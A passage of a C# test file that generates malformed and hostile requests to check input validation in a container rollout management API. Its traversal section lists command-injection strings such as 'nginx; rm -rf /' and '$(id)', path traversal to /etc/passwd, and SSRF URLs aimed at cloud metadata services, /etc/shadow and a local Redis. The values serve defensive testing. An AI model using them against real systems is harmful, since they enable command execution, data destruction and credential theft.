        add("users-role-number", WrongTypes, _ => Body("POST", "/api/users", Obj(("username", "hostile-u3"), ("password", "long-enough-password-1"), ("roles", new JsonArray(1))), "roles[0]"));
        add("users-unknown-role", References, _ => Body("POST", "/api/users", Obj(("username", "hostile-u3"), ("password", "long-enough-password-1"), ("roles", new JsonArray("Root"))), "roles"));
        add("users-short-password", References, _ => Body("POST", "/api/users", Obj(("username", "hostile-u3"), ("password", "short"), ("roles", new JsonArray("Viewer"))), "password"));
        add("users-username-taken", References, _ => Body("POST", "/api/users", Obj(("username", "hostile-target"), ("password", "long-enough-password-1")), "username"));
        add("users-username-number", WrongTypes, _ => Body("POST", "/api/users", Obj(("username", 1), ("password", "long-enough-password-1")), "username"));
        add("roles-unknown-user", References, _ => Body("PUT", "/api/users/no-such-user/roles", Obj(("roles", new JsonArray("Viewer"))), "no user"));
        add("roles-missing", References, ctx => Body("PUT", $"/api/users/{ctx.UserId}/roles", new JsonObject(), "roles"));
        add("reset-short", References, ctx => Body("POST", $"/api/users/{ctx.UserId}/password", Obj(("newPassword", "short")), "newPassword"));
        add("reset-missing", References, ctx => Body("POST", $"/api/users/{ctx.UserId}/password", new JsonObject(), "newPassword"));
        add("reset-unknown-user", References, _ => Body("POST", "/api/users/no-such-user/password", Obj(("newPassword", "long-enough-password-9")), "no user"));
        add("disable-unknown-user", References, _ => Body("POST", "/api/users/no-such-user/disable", new JsonObject(), "no user"));
        add("tokens-missing-password", References, _ => Body("POST", "/api/tokens", Obj(("username", "nobody")), "password"));
        add("tokens-username-list", WrongTypes, _ => Body("POST", "/api/tokens", Obj(("username", new JsonArray()), ("password", "x")), "username"));
        add("thresholds-word", WrongTypes, ctx => Body("PUT", $"/api/hosts/{ctx.HostId}/thresholds", Obj(("memoryYellow", "high")), "memoryYellow"));
        add("prune-kind-unknown", WrongTypes, ctx => Body("POST", $"/api/hosts/{ctx.HostId}/prune", Obj(("kinds", new JsonArray("Everything")), ("confirm", false)), "kinds"));

        add("import-text-plain", Envelope, _ => Import(_ => { }, "Content-Type") with { ContentType = "text/plain" });
        add("put-form-encoded", Envelope, ctx => new HostileRequest("PUT", $"/api/plans/{ctx.PlanId}", "comment=x"u8.ToArray(), "application/x-www-form-urlencoded", ["Content-Type"]));
        add("users-xml", Envelope, _ => new HostileRequest("POST", "/api/users", "<user/>"u8.ToArray(), "application/xml", ["Content-Type"]));
        add("users-body-over-a-mebibyte", Envelope, _ => Body("POST", "/api/users", Obj(("username", new string('u', 1_200_000))), "body"));
        add("webhooks-body-over-a-mebibyte", Envelope, _ => Body("POST", "/api/webhooks", Obj(("name", new string('n', 1_200_000))), "body"));
        add("tokens-body-over-a-mebibyte", Envelope, _ => Body("POST", "/api/tokens", Obj(("username", "x"), ("password", new string('p', 1_200_000))), "body"));
    }

    private static void AddNumbers(Action<string, string, Func<HostileContext, HostileRequest>> add)
    {
        foreach (var (id, path, value, field) in new (string, Func<HostileContext, string>, JsonNode, string)[]
                 {
                     ("memory-negative", c => $"{c.Web}.memoryLimitBytes", -5, "memory limit"), ("memory-zero", c => $"{c.Web}.memoryLimitBytes", 0, "memory limit"),
                     ("memory-absurd", c => $"{c.Web}.memoryLimitBytes", 1_000_000_000_000_000_000L, "memory limit"),
                     ("memory-overflow", c => $"{c.Web}.memoryLimitBytes", JsonNode.Parse("9223372036854775808")!, "memoryLimitBytes"),
                     ("memory-under-engine-minimum", c => $"{c.Web}.memoryLimitBytes", 1024, "engine's minimum"),
                     ("reservation-negative", c => $"{c.Web}.memoryReservationBytes", -1, "memory reservation"),
                     ("swap-under-limit", c => $"{c.Web}.memorySwapBytes", 6 * 1024 * 1024 + 1, "memory+swap"),
                     ("cpus-zero", c => $"{c.Web}.cpus", 0, "CPUs"), ("cpus-negative", c => $"{c.Web}.cpus", -1, "CPUs"), ("cpus-huge", c => $"{c.Web}.cpus", 1e9, "CPUs"),
                     ("cpus-overflow", c => $"{c.Web}.cpus", JsonNode.Parse("1e400")!, "cpus"),
                     ("soak-negative", c => $"phases[{c.Phase}].soakSeconds", -1, "soak"), ("soak-absurd", c => $"phases[{c.Phase}].soakSeconds", 1e12, "soak"),
                     ("phase-budget-negative", c => $"phases[{c.Phase}].memoryBudgetBytes", -1, "memory budget"),
                     ("phase-cpu-budget-zero", c => $"phases[{c.Phase}].cpuBudget", 0, "CPU budget"),
                     ("phase-over-budget", c => $"phases[{c.Phase}].memoryBudgetBytes", 8 * 1024 * 1024, "over the phase budget"),
                     ("stack-budget-zero", _ => "stackBudgetBytes", 0, "stack budget"),
                     ("retries-zero", c => $"{c.Web}.healthCheck.retries", 0, "retries"), ("retries-absurd", c => $"{c.Web}.healthCheck.retries", 100_000, "retries"),
                     ("interval-negative", c => $"{c.Web}.healthCheck.intervalSeconds", -5, "interval"), ("interval-absurd", c => $"{c.Web}.healthCheck.intervalSeconds", 1e9, "interval"),
                     ("timeout-absurd", c => $"{c.Web}.healthCheck.timeoutSeconds", 1e9, "timeout"),
                     ("gate-timeout-zero", c => $"{c.Web}.gates[0].timeoutSeconds", 0, "timeout"), ("gate-timeout-absurd", c => $"{c.Web}.gates[0].timeoutSeconds", 1e6, "timeout"),
                     ("gate-status-zero", c => $"{c.Web}.gates[0].minStatus", 0, "status"), ("gate-status-absurd", c => $"{c.Web}.gates[0].maxStatus", 1000, "status"),
                     ("gate-window-zero", c => $"{c.Web}.gates[0]", new JsonObject { ["kind"] = "Logs", ["pattern"] = "ERROR", ["windowSeconds"] = 0 }, "window"),
                     ("ulimit-negative", c => $"{c.Web}.ulimits.nofile", new JsonObject { ["soft"] = -5, ["hard"] = -5 }, "ulimits.nofile"),
                     ("ulimit-soft-over-hard", c => $"{c.Web}.ulimits.nofile", new JsonObject { ["soft"] = 10, ["hard"] = 5 }, "ulimits.nofile"),
                     ("ulimit-overflow", c => $"{c.Web}.ulimits.nofile", new JsonObject { ["soft"] = JsonNode.Parse("1e30"), ["hard"] = 5 }, "soft"),
                     ("restart-retries", c => $"{c.Web}.restart", "on-failure:99999", "restart"), ("restart-word", c => $"{c.Web}.restart", "sometimes", "restart"),
                     ("port-too-high", c => $"{c.Web}.ports", new JsonArray("99999"), "port"), ("port-word", c => $"{c.Web}.ports", new JsonArray("abc"), "port"),
                     ("port-zero", c => $"{c.Web}.ports", new JsonArray("0:80"), "port"),
                     ("base-revision-negative", _ => "baseRevision", -1, "revision"),
                 })
        {
            add($"put-number-{id}", Absurd, ctx => Put(ctx, d => Set(d, path(ctx), value.DeepClone()), field, path(ctx)));
        }

        add("put-gate-memory-percent", Absurd, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.gates[0]", new JsonObject { ["kind"] = "Memory", ["maxMemoryPercent"] = 500 }), "memory gate"));
        foreach (var (id, body, field) in new[]
                 {
                     ("memory-over-100", "{\"memoryYellow\": 150, \"memoryRed\": 160, \"diskYellow\": 70, \"diskRed\": 85, \"loadYellow\": 2, \"loadRed\": 5, \"keepFreePercent\": 30}", "memory"),
                     ("memory-negative", "{\"memoryYellow\": -1, \"memoryRed\": 85, \"diskYellow\": 70, \"diskRed\": 85, \"loadYellow\": 2, \"loadRed\": 5, \"keepFreePercent\": 30}", "memory"),
                     ("yellow-over-red", "{\"memoryYellow\": 90, \"memoryRed\": 80, \"diskYellow\": 70, \"diskRed\": 85, \"loadYellow\": 2, \"loadRed\": 5, \"keepFreePercent\": 30}", "memory"),
                     ("load-negative", "{\"memoryYellow\": 70, \"memoryRed\": 85, \"diskYellow\": 70, \"diskRed\": 85, \"loadYellow\": -2, \"loadRed\": -1, \"keepFreePercent\": 30}", "load"),
                     ("keep-free-all", "{\"memoryYellow\": 70, \"memoryRed\": 85, \"diskYellow\": 70, \"diskRed\": 85, \"loadYellow\": 2, \"loadRed\": 5, \"keepFreePercent\": 100}", "free"),
                     ("disk-overflow", "{\"memoryYellow\": 70, \"memoryRed\": 85, \"diskYellow\": 1e400, \"diskRed\": 85, \"loadYellow\": 2, \"loadRed\": 5, \"keepFreePercent\": 30}", "diskYellow"),
                 })
        {
            add($"thresholds-{id}", Absurd, ctx => new HostileRequest("PUT", $"/api/hosts/{ctx.HostId}/thresholds", Encoding.UTF8.GetBytes(body), "application/json", [field]));
        }
    }

    private static void AddQueries(Action<string, string, Func<HostileContext, HostileRequest>> add)
    {
        void Get(string id, Func<HostileContext, string> path, params string[] fields) => add($"query-{id}", Queries, ctx => new HostileRequest("GET", path(ctx), null, "application/json", fields));

        Get("state-unknown", _ => "/api/rollouts?state=bogus", "state");
        Get("state-nul", _ => "/api/rollouts?state=%00", "state");
        Get("state-bidi", _ => "/api/rollouts?state=%E2%80%AEfailed", "state");
        Get("page-zero", _ => "/api/rollouts?page=0", "page");
        Get("page-negative", _ => "/api/rollouts?page=-1", "page");
        Get("page-word", _ => "/api/rollouts?page=abc", "page");
        Get("page-size-huge", _ => "/api/rollouts?pageSize=500", "pageSize");
        Get("page-size-overflow", _ => "/api/rollouts?pageSize=99999999999999999999", "pageSize");
        Get("from-year-one", _ => "/api/rollouts?from=0001-01-01", "from");
        Get("from-underflow", _ => "/api/rollouts?from=0001-01-01T00:00:00%2B14:00", "from");
        Get("to-word", _ => "/api/rollouts?to=yesterday", "to");
        Get("to-year-99999", _ => "/api/rollouts?to=99999-01-01", "to");
        Get("host-not-guid", _ => "/api/rollouts?hostId=prod", "hostId");
        Get("plan-not-guid", _ => "/api/rollouts?planId=1", "planId");
        Get("started-by-nul", _ => "/api/rollouts?startedBy=ad%00min", "startedBy");
        Get("started-by-huge", _ => "/api/rollouts?startedBy=" + new string('u', 2100), "startedBy");
        Get("sort-unknown", _ => "/api/rollouts?sort=random", "sort");
        Get("key-nul", _ => "/api/rollouts?%00=1", "query parameter");
        Get("key-bidi", _ => "/api/rollouts?a%E2%80%AE=1", "query parameter");
        Get("csv-state", _ => "/api/rollouts/export.csv?state=bogus", "state");
        Get("csv-from", _ => "/api/rollouts/export.csv?from=0001-01-01", "from");
        Get("audit-from", _ => "/api/audit?from=0001-01-01", "from");
        Get("audit-page", _ => "/api/audit?page=0", "page");
        Get("audit-page-size", _ => "/api/audit?pageSize=100000", "pageSize");
        Get("audit-user-nul", _ => "/api/audit?user=%00", "user");
        Get("weekly-underflow", _ => "/api/reports/weekly?to=0001-01-02", "to");
        Get("weekly-from-word", _ => "/api/reports/weekly?from=last-week", "from");
        Get("weekly-host", _ => "/api/reports/weekly?hostId=x", "hostId");
        Get("wait-huge", c => $"/api/rollouts/{c.RolloutId}?wait=9999", "wait");
        Get("wait-negative", c => $"/api/rollouts/{c.RolloutId}?wait=-1", "wait");
        Get("wait-word", c => $"/api/rollouts/{c.RolloutId}?wait=soon", "wait");
        Get("rollout-unknown", c => $"/api/rollouts/{c.RolloutId}", "rollout");
        Get("revision-word", c => $"/api/plans/{c.PlanId}?revision=latest", "revision");
        Get("revision-unknown", c => $"/api/plans/{c.PlanId}?revision=99999", "revision");
        Get("revision-overflow", c => $"/api/plans/{c.PlanId}?revision=99999999999", "revision");
        Get("compare-words", c => $"/api/plans/{c.PlanId}/revisions/compare?from=a&to=b", "from");
        Get("compare-missing", c => $"/api/plans/{c.PlanId}/revisions/compare", "from");
        Get("compare-unknown", c => $"/api/plans/{c.PlanId}/revisions/compare?from=1&to=999", "revision");
        Get("export-unknown", c => $"/api/plans/{c.PlanId}/export?revision=-5", "revision");
        Get("plan-unknown", _ => $"/api/plans/{Guid.NewGuid()}", "plan");
        Get("path-bidi", _ => "/api/plans/%E2%80%AE", "path");
        Get("path-control", _ => "/api/hosts/%07", "path");
        Get("page-query-nul", _ => "/rollouts?state=%00", "state");
        Get("webhook-deliveries-unknown", _ => $"/api/webhooks/{Guid.NewGuid()}/deliveries", "webhook");
        add("query-dry-run-host-word", Queries, c => new HostileRequest("POST", $"/api/plans/{c.PlanId}/dry-run?hostId=prod", null, "application/json", ["hostId"]));
        add("query-dry-run-host-missing", Queries, c => new HostileRequest("POST", $"/api/plans/{c.PlanId}/dry-run", null, "application/json", ["hostId"]));
        add("query-dry-run-unknown-host", Queries, c => new HostileRequest("POST", $"/api/plans/{c.PlanId}/dry-run?hostId={Guid.NewGuid()}", null, "application/json", ["host"]));
        add("query-unknown-route", Queries, _ => new HostileRequest("GET", "/api/no-such-thing", null, "application/json", ["nothing at"]));
        add("query-wrong-method", Queries, _ => new HostileRequest("DELETE", "/api/plans", null, "application/json", ["not allowed"]));
    }

    private static void AddTraversal(Action<string, string, Func<HostileContext, HostileRequest>> add)
    {
        foreach (var (id, image) in new[] { ("semicolon", "nginx; rm -rf /"), ("substitution", "$(id)"), ("backticks", "`reboot`"), ("traversal", "../../etc/passwd"), ("pipe", "nginx | sh"), ("space", "nginx latest") })
            add($"put-image-{id}", Traversal, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.image", image), "image"));
        foreach (var (id, name) in new[] { ("traversal", "../x"), ("semicolon", "a;b"), ("substitution", "$(id)"), ("slash", "a/b") })
            add($"put-service-name-{id}", Traversal, ctx => Put(ctx, d => Set(d, $"{ctx.Db}.name", name), "service name"));
        foreach (var (id, username) in new[] { ("traversal", "../admin"), ("space", "a b"), ("semicolon", "root;"), ("quote", "a'--") })
            add($"users-username-{id}", Traversal, _ => Body("POST", "/api/users", Obj(("username", username), ("password", "long-enough-password-1")), "username"));
        foreach (var (id, url) in new[]
                 {
                     ("file", "file:///etc/passwd"), ("javascript", "javascript:alert(1)"), ("gopher", "gopher://127.0.0.1:6379/_FLUSHALL"), ("relative", "/hooks/x"),
                     ("metadata-ipv4", "http://169.254.169.254/latest/meta-data/iam/"), ("metadata-ipv6", "http://[fe80::1]/"), ("metadata-name", "http://metadata.google.internal/computeMetadata/v1/"),
                     ("metadata-alibaba", "http://100.100.100.200/latest/meta-data/"), ("userinfo", "http://user:pw@127.0.0.1/"),
                 })
        {
            add($"webhooks-url-{id}", Traversal, _ => Body("POST", "/api/webhooks", Obj(("name", "h"), ("url", url), ("events", new JsonArray("rollout-finished"))), "url"));
        }

        foreach (var (id, url) in new[] { ("file", "file:///etc/shadow"), ("metadata", "http://169.254.169.254/latest/meta-data/") })
            add($"put-gate-url-{id}", Traversal, ctx => Put(ctx, d => Set(d, $"{ctx.Web}.gates[0].url", url), "HTTP gate"));
        add("roles-user-traversal", Traversal, _ => Body("PUT", "/api/users/..%2F..%2Fetc%2Fpasswd/roles", Obj(("roles", new JsonArray("Viewer"))), "no user"));
        add("password-user-dotdot", Traversal, _ => Body("POST", "/api/users/%2E%2E/password", Obj(("newPassword", "long-enough-password-9")), "no user", "nothing at", "not allowed"));
        add("plans-path-traversal", Traversal, _ => new HostileRequest("GET", "/api/plans/..%2F..%2Fetc%2Fpasswd", null, "application/json", ["nothing at"]));
    }

    private static HostileRequest Import(Action<JsonObject> mutate, params string[] fields)
    {
        var body = Obj(("name", "hostile-new"), ("description", "d"), ("files", new JsonArray(Obj(("name", "docker-compose.yml"), ("content", "services:\n  a:\n    image: nginx\n")))),
            ("env", "UNUSED=1"), ("profiles", new JsonArray("p")));
        mutate(body);
        return Body("POST", "/api/plans/import", body, fields);
    }

    private static HostileRequest Put(HostileContext ctx, Action<JsonNode> mutate, params string[] fields)
    {
        var document = ctx.Document.DeepClone();
        document["baseRevision"] = ctx.Revision;
        mutate(document);
        return Body("PUT", $"/api/plans/{ctx.PlanId}", document, fields);
    }

    private static HostileRequest Body(string method, string path, JsonNode body, params string[] fields) =>
        new(method, path, Encoding.UTF8.GetBytes(body.ToJsonString().Replace(Lone, "\\ud800", StringComparison.Ordinal)), "application/json", fields);

    private static byte[] Prefix(byte[] body, string properties)
    {
        var text = Encoding.UTF8.GetString(body);
        return Encoding.UTF8.GetBytes("{" + properties + text[1..]);
    }

    private static JsonObject Obj(params (string Key, JsonNode? Value)[] properties)
    {
        var o = new JsonObject();
        foreach (var (k, v) in properties)
            o[k] = v;
        return o;
    }

    private static JsonNode Nest(int depth)
    {
        JsonNode node = "x";
        for (var i = 0; i < depth; i++)
            node = new JsonArray(node);
        return node;
    }

    private static JsonNode NestObject(int depth)
    {
        JsonNode node = "x";
        for (var i = 0; i < depth; i++)
            node = new JsonObject { ["a"] = node };
        return node;
    }

    /// <summary>The node at a path such as <c>phases[0].services[1]</c>.</summary>
    private static JsonNode? Node(JsonNode root, string path)
    {
        var node = root;
        foreach (var (name, index) in Segments(path))
            node = index is { } i ? node![name]![i] : node![name];
        return node;
    }

    /// <summary>Sets a path, making the objects and lists on the way (<c>volumes[0].target</c> on a service without volumes).</summary>
    private static T Set<T>(T root, string path, JsonNode? value)
        where T : JsonNode
    {
        JsonNode node = root;
        var segments = Segments(path).ToList();
        for (var s = 0; s < segments.Count; s++)
        {
            var (name, index) = segments[s];
            var last = s == segments.Count - 1;
            if (index is null)
            {
                if (last)
                {
                    node[name] = value;
                    return root;
                }

                node[name] ??= new JsonObject();
                node = node[name]!;
                continue;
            }

            if (node[name] is not JsonArray list)
                node[name] = list = new JsonArray();
            while (list.Count <= index)
                list.Add(last ? null : new JsonObject());
            if (last)
            {
                list[index.Value] = value;
                return root;
            }

            list[index.Value] ??= new JsonObject();
            node = list[index.Value]!;
        }

        return root;
    }

    private static T Set<T>(T root, string path, string value)
        where T : JsonNode => Set(root, path, JsonValue.Create(value));

    private static IEnumerable<(string Name, int? Index)> Segments(string path)
    {
        foreach (var part in path.Split('.'))
        {
            var open = part.IndexOf('[', StringComparison.Ordinal);
            if (open < 0)
                yield return (part, null);
            else
                yield return (part[..open], int.Parse(part[(open + 1)..^1], System.Globalization.CultureInfo.InvariantCulture));
        }
    }

    private static string Printable(string key) => Domain.Input.TextRules.Printable(key.Replace(Lone, "\ud800", StringComparison.Ordinal));
}
